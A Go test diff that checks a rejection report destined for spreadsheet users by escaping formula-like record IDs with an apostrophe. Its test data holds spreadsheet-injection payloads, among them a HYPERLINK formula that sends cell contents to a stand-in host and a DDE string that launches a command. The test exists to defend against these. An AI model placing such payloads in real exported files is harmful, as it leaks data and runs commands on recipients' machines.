@@ -551,3 +551,33 @@ func TestAbroadCountedOnTheDeclaration(t *testing.T) {
 		t.Errorf("%d report lines, want 3", n)
 	}
 }
+
+// The rejection report goes back to the ICS, whose people open it in a spreadsheet. A
+// RECORD_ID is the ICS's text, repeated as read: one that a spreadsheet would run as a
+// formula is written with an apostrophe in front, so it shows as the text it is.
+func TestReportRecordIDIsNeverAFormula(t *testing.T) {
+	st := newStore(t)
+	s, m := goodRows(5)
+	ids := []string{`=HYPERLINK("http://x.example/?"&A1,"fix")`, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "-12"}
+	for i, id := range ids {
+		s[i]["RECORD_ID"], m[i]["RECORD_ID"] = id, id
+		s[i]["GENDER"] = "bad" // rejected: on the report with its RECORD_ID
+	}
+	if _, err := runPair(t, st, s, m); err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]bool{}
+	for _, l := range reportLines(t, st) {
+		got[l["record_id"]] = true
+		for col, v := range l {
+			if v != "" && (v[0] == '=' || v[0] == '+' || v[0] == '@' || v[0] == '-' && v != "-12") {
+				t.Errorf("report line %v: %s %q starts a formula", l, col, v)
+			}
+		}
+	}
+	for _, want := range []string{`'=HYPERLINK("http://x.example/?"&A1,"fix")`, "'+1+cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3", "-12"} {
+		if !got[want] {
+			t.Errorf("report has no record_id %q (has %v)", want, got)
+		}
+	}
+}
